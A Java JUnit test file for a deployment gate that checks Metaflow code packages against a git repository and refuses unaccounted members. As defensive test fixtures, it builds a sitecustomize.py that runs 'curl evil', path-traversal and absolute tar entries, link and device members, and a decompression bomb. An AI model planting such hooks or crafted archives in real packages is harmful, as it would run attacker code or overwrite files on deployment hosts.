package dev.flowgate.deployer.domain;

import dev.flowgate.deployer.fakes.TestPackages;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Every member of a package is accounted for, or the package is refused naming the member and its class. */
class PackageGateTest {
    static final List<String> SUFFIXES = List.of(".py", ".R", ".RDS");
    static final String FLOW = "import demoproj\nclass DemoFlow: pass\n";
    static final String MODULE_INIT = "METAFLOW_PACKAGE_POLICY = \"include\"\n";
    static final String MODULE_FEATURES = "def f(): return 1\n";

    /** A repository shaped like the template: flows/demoflow.py, src/demoproj/. */
    static List<TreeEntry> tree(String features) {
        return List.of(blob("flows/demoflow.py", FLOW), blob("src/demoproj/__init__.py", MODULE_INIT),
                blob("src/demoproj/features.py", features), blob("README.md", "# demo\n"));
    }

    static TreeEntry blob(String path, String content) {
        return new TreeEntry(path, "100644", "blob", CodePackageReader.gitBlobId(content.getBytes(StandardCharsets.UTF_8)));
    }

    /** A layout-v1 package of the template's flow with its module, as Metaflow 2.19 writes it. */
    static Map<String, String> members() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put(".mf_code/metaflow/__init__.py", "# metaflow library\n");
        m.put(".mf_code/metaflow/cli.py", "def main(): pass\n");
        m.put(".mf_code/demoproj/__init__.py", MODULE_INIT);
        m.put(".mf_code/demoproj/features.py", MODULE_FEATURES);
        m.put(".mf_meta/INFO", "{\"script\": \"demoflow.py\", \"metaflow_version\": \"" + TestPackages.TEST_METAFLOW_VERSION + "\"}");
        m.put(".mf_meta/CONFIG", "{\"user_configs\": {\"cfg\": [{\"a\": 1}, false]}}");
        m.put(".mf_meta/DIST_INFO", "{}");
        m.put(".mf_install", "{\"version\": 1, \"module_files\": [\".mf_code/demoproj/__init__.py\", \".mf_code/demoproj/features.py\"]}");
        m.put("demoflow.py", FLOW);
        return m;
    }

    static final Map<String, String> GIT_CONFIGS = Map.of("cfg", "{\"a\":1}");

    static GitCode git(List<TreeEntry> tree, Map<String, String> configs) {
        return new GitCode(tree, "flows/demoflow.py", SUFFIXES, configs);
    }

    static CodeComparison check(byte[] archive) {
        return PackageGate.check("DemoFlow", archive, 1, git(tree(MODULE_FEATURES), GIT_CONFIGS));
    }

    static Unaccounted only(CodeComparison comparison) {
        assertThat(comparison.identical()).isFalse();
        assertThat(comparison.unaccounted()).hasSize(1);
        return comparison.unaccounted().get(0);
    }

    @Test
    void aPackageOfUserFilesModuleLibraryAndDataMatchingGit_passes() {
        CodeComparison comparison = check(TestPackages.tgz(members()));
        assertThat(comparison.summary()).isEqualTo("identical");
        assertThat(comparison.identical()).isTrue();
        assertThat(comparison.files()).isEqualTo(1);
    }

    @Test
    void anExtraSitecustomizeOnThePythonPath_isRefusedAsUnknown() {
        Map<String, String> m = members();
        m.put(".mf_code/sitecustomize.py", "import os; os.system('curl evil')\n");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.member()).isEqualTo(".mf_code/sitecustomize.py");
        assertThat(u.memberClass()).isEqualTo("unknown");
        assertThat(u.reason()).contains("PYTHONPATH");
    }

    /** A package of MutatedFlow-style code: the mutator is defined in the flow file, so Metaflow packages the script. */
    static Map<String, String> withScriptAsModule(String name, String content) {
        Map<String, String> m = members();
        m.put(".mf_code/" + name, content);
        m.put(".mf_install", "{\"version\": 1, \"module_files\": [\".mf_code/demoproj/__init__.py\", "
                + "\".mf_code/demoproj/features.py\", \".mf_code/" + name + "\"]}");
        return m;
    }

    @Test
    void theFlowScriptPackagedAsMainModule_isAccountedAgainstTheFlowFileInGit() {
        assertThat(check(TestPackages.tgz(withScriptAsModule("__mp_main__.py", FLOW))).summary()).isEqualTo("identical");
        assertThat(check(TestPackages.tgz(withScriptAsModule("__main__.py", FLOW))).summary()).isEqualTo("identical");
    }

    @Test
    void aMainModuleThatIsNotTheFlowFile_isCaughtAsMismatched() {
        CodeComparison comparison = check(TestPackages.tgz(withScriptAsModule("__mp_main__.py", FLOW + "import os\n")));
        assertThat(comparison.identical()).isFalse();
        assertThat(comparison.mismatched()).containsExactly(".mf_code/__mp_main__.py (flows/demoflow.py)");
    }

    @Test
    void aMainModuleNotListedInModuleFiles_isRefusedAsUnknown() {
        Map<String, String> m = members();
        m.put(".mf_code/__main__.py", FLOW);
        assertThat(only(check(TestPackages.tgz(m))).memberClass()).isEqualTo("unknown");
    }

    @Test
    void aModuleFileNotListedInModuleFiles_isRefused() {
        Map<String, String> m = members();
        m.put(".mf_code/demoproj/extra.py", "x = 1\n");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.member()).isEqualTo(".mf_code/demoproj/extra.py");
        assertThat(u.memberClass()).isEqualTo("unknown");
    }

    @Test
    void aPatchedMetaflowLibraryFile_isRefusedAsMetaflowLibrary() {
        Map<String, String> m = members();
        m.put(".mf_code/metaflow/__init__.py", "# metaflow library\nimport os\n");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.member()).isEqualTo(".mf_code/metaflow/__init__.py");
        assertThat(u.memberClass()).isEqualTo("metaflow_library");
        assertThat(u.reason()).contains("differs from the Metaflow " + TestPackages.TEST_METAFLOW_VERSION + " wheel");
    }

    @Test
    void aLibraryFileTheWheelDoesNotHave_isRefused() {
        Map<String, String> m = members();
        m.put(".mf_code/metaflow/plugins/evil.py", "x\n");
        assertThat(only(check(TestPackages.tgz(m))).reason()).contains("not a file of the Metaflow");
    }

    @Test
    void aMetaflowVersionWithoutPin_isRefusedWithTheFix() {
        Map<String, String> m = members();
        m.put(".mf_meta/INFO", "{\"metaflow_version\": \"2.99.0\"}");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.memberClass()).isEqualTo("metaflow_library");
        assertThat(u.reason()).contains("Metaflow 2.99.0 is not trusted").contains("scripts/trust-metaflow 2.99.0");
    }

    @Test
    void metaflowExtensions_areRefused() {
        Map<String, String> m = members();
        m.put(".mf_code/metaflow_extensions/corp/__init__.py", "x\n");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.memberClass()).isEqualTo("metaflow_extension");
    }

    @Test
    void aChangedSrcModuleFile_isCaughtAsMismatched() {
        CodeComparison comparison = PackageGate.check("DemoFlow", TestPackages.tgz(members()), 1,
                git(tree("def f(): return 2\n"), GIT_CONFIGS));
        assertThat(comparison.identical()).isFalse();
        assertThat(comparison.mismatched()).containsExactly(".mf_code/demoproj/features.py (src/demoproj/features.py)");
    }

    @Test
    void aModuleFileAddedInGitButMissingFromThePackage_isOnlyInGit() {
        List<TreeEntry> tree = new ArrayList<>(tree(MODULE_FEATURES));
        tree.add(blob("src/demoproj/more.py", "y\n"));
        CodeComparison comparison = PackageGate.check("DemoFlow", TestPackages.tgz(members()), 1, git(tree, GIT_CONFIGS));
        assertThat(comparison.onlyInGit()).containsExactly("src/demoproj/more.py");
    }

    @Test
    void aModuleThatIsNotInTheRepository_isRefused() {
        Map<String, String> m = members();
        m.put(".mf_install", "{\"version\": 1, \"module_files\": [\".mf_code/demoproj/__init__.py\","
                + " \".mf_code/demoproj/features.py\", \".mf_code/requests/__init__.py\"]}");
        m.put(".mf_code/requests/__init__.py", "x\n");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.member()).isEqualTo(".mf_code/requests/__init__.py");
        assertThat(u.memberClass()).isEqualTo("module");
        assertThat(u.reason()).contains("not in the repository");
    }

    @Test
    void theEmptyInitMetaflowWritesForANamespaceModule_isAccounted() {
        Map<String, String> m = members();
        m.put(".mf_install", "{\"version\": 1, \"module_files\": [\".mf_code/demoproj/__init__.py\", \".mf_code/demoproj/features.py\","
                + " \".mf_code/nsmod/__init__.py\", \".mf_code/nsmod/util.py\"]}");
        m.put(".mf_code/nsmod/__init__.py", "# empty\n");
        m.put(".mf_code/nsmod/util.py", "u = 1\n");
        List<TreeEntry> tree = new ArrayList<>(tree(MODULE_FEATURES));
        tree.add(blob("src/nsmod/util.py", "u = 1\n"));
        assertThat(PackageGate.check("DemoFlow", TestPackages.tgz(m), 1, git(tree, GIT_CONFIGS)).summary())
                .isEqualTo("identical");
    }

    @Test
    void configDrift_isRefusedNamingTheConfig() {
        Map<String, String> m = members();
        m.put(".mf_meta/CONFIG", "{\"user_configs\": {\"cfg\": [{\"a\": 2}, false]}}");
        Unaccounted u = only(check(TestPackages.tgz(m)));
        assertThat(u.member()).isEqualTo(".mf_meta/CONFIG");
        assertThat(u.memberClass()).isEqualTo("meta");
        assertThat(u.reason()).contains("Config 'cfg'").contains("{\"a\":2}").contains("{\"a\":1}");
    }

    @Test
    void aNestedMetaMember_isRefused() {
        Map<String, String> m = members();
        m.put(".mf_meta/sub/x.py", "x\n");
        assertThat(only(check(TestPackages.tgz(m))).member()).isEqualTo(".mf_meta/sub/x.py");
    }

    @Test
    void aLayoutOtherThanTheRunRecorded_isRefused() {
        CodeComparison comparison = PackageGate.check("DemoFlow", TestPackages.tgz(members()), 0,
                git(tree(MODULE_FEATURES), GIT_CONFIGS));
        assertThat(only(comparison).reason()).contains("layout v1").contains("mfcontent_version 0");
    }

    @Test
    void hardlinkSymlinkFifoAndDeviceMembers_areRefusedByTheirTypeFlag() {
        for (byte flag : new byte[]{TarConstants.LF_LINK, TarConstants.LF_SYMLINK, TarConstants.LF_FIFO, TarConstants.LF_CHR,
                TarConstants.LF_BLK}) {
            byte[] archive = withRaw(members(), "helper.py", flag, "demoflow.py", new byte[0]);
            Unaccounted u = only(check(archive));
            assertThat(u.member()).isEqualTo("helper.py");
            assertThat(u.memberClass()).isIn("hardlink", "symlink", "fifo", "device");
            assertThat(u.reason()).contains("Metaflow writes only regular files");
        }
        Unaccounted hardlink = only(check(withRaw(members(), "helper.py", TarConstants.LF_LINK, "demoflow.py", new byte[0])));
        assertThat(hardlink.memberClass()).isEqualTo("hardlink");
        assertThat(hardlink.reason()).contains("to demoflow.py");
    }

    @Test
    void traversalAbsoluteAndDuplicatePaths_areRefused() {
        assertThat(only(check(withRaw(members(), "../evil.py", TarConstants.LF_NORMAL, null, "x".getBytes()))).memberClass())
                .isEqualTo("unsafe_path");
        assertThat(only(check(withRaw(members(), "/etc/evil.py", TarConstants.LF_NORMAL, null, "x".getBytes()))).memberClass())
                .isEqualTo("unsafe_path");
        Unaccounted duplicate = only(check(withRaw(members(), "demoflow.py", TarConstants.LF_NORMAL, null, "evil".getBytes())));
        assertThat(duplicate.memberClass()).isEqualTo("duplicate");
        assertThat(duplicate.member()).isEqualTo("demoflow.py");
    }

    @Test
    void oversizedMembersTooManyMembersAndBombs_stopReadingAndAreRefused() {
        Map<String, String> m = members();
        m.put("big.py", "x".repeat(5000));
        CodeComparison oversized = PackageGate.check("DemoFlow", TestPackages.tgz(m), 1, git(tree(MODULE_FEATURES), GIT_CONFIGS),
                new PackageLimits(1 << 20, 4096, 1 << 20, 100, 100, 4096));
        assertThat(oversized.unaccounted()).anySatisfy(u -> {
            assertThat(u.member()).isEqualTo("big.py");
            assertThat(u.memberClass()).isEqualTo("oversized");
        });
        CodeComparison many = PackageGate.check("DemoFlow", TestPackages.tgz(members()), 1, git(tree(MODULE_FEATURES), GIT_CONFIGS),
                new PackageLimits(1 << 20, 4096, 1 << 20, 3, 100, 4096));
        assertThat(many.unaccounted()).anySatisfy(u -> assertThat(u.memberClass()).isEqualTo("too_many_members"));
        // 20 MiB of zeros compresses to ~20 KB: past 10 x max(archive, 1 MiB) of unpacked bytes
        Map<String, String> bomb = members();
        bomb.put("zeros.py", "\0".repeat(20 << 20));
        CodeComparison ratio = PackageGate.check("DemoFlow", TestPackages.tgz(bomb), 1, git(tree(MODULE_FEATURES), GIT_CONFIGS),
                new PackageLimits(256L << 20, 64L << 20, 1L << 30, 20_000, 10, 4 << 20));
        assertThat(ratio.unaccounted()).anySatisfy(u -> {
            assertThat(u.member()).isEqualTo("zeros.py");
            assertThat(u.reason()).contains("compression ratio");
        });
    }

    @Test
    void anArchiveLargerThanTheCap_isRefusedUnread() {
        CodeComparison comparison = PackageGate.check("DemoFlow", TestPackages.tgz(members()), 1, git(tree(MODULE_FEATURES), GIT_CONFIGS),
                new PackageLimits(100, 4096, 1 << 20, 100, 100, 4096));
        assertThat(comparison.unaccounted()).anySatisfy(u -> assertThat(u.memberClass()).isEqualTo("oversized"));
    }

    @Test
    void layoutV0_accountsTheLibraryAtTheRootAndUserFiles() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("metaflow/__init__.py", "# metaflow library\n");
        m.put("INFO", "{\"metaflow_version\": \"" + TestPackages.TEST_METAFLOW_VERSION + "\"}");
        m.put("demoflow.py", FLOW);
        CodeComparison ok = PackageGate.check("DemoFlow", TestPackages.tgz(m), 0, git(tree(MODULE_FEATURES), Map.of()));
        assertThat(ok.summary()).isEqualTo("identical");
        m.put("metaflow/__init__.py", "# patched\n");
        CodeComparison patched = PackageGate.check("DemoFlow", TestPackages.tgz(m), 0, git(tree(MODULE_FEATURES), Map.of()));
        assertThat(only(patched).member()).isEqualTo("metaflow/__init__.py");
    }

    /** The package plus one member written with a raw tar type flag (links, devices) or a raw name (traversal). */
    static byte[] withRaw(Map<String, String> members, String name, byte flag, String linkTarget, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(out))) {
            tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
            for (Map.Entry<String, String> member : members.entrySet()) {
                byte[] bytes = member.getValue().getBytes(StandardCharsets.UTF_8);
                TarArchiveEntry entry = new TarArchiveEntry(member.getKey());
                entry.setSize(bytes.length);
                tar.putArchiveEntry(entry);
                tar.write(bytes);
                tar.closeArchiveEntry();
            }
            TarArchiveEntry raw = new TarArchiveEntry(name, flag, true);
            if (linkTarget != null) {
                raw.setLinkName(linkTarget);
            }
            raw.setSize(flag == TarConstants.LF_NORMAL ? content.length : 0);
            tar.putArchiveEntry(raw);
            if (flag == TarConstants.LF_NORMAL) {
                tar.write(content);
            }
            tar.closeArchiveEntry();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }
}
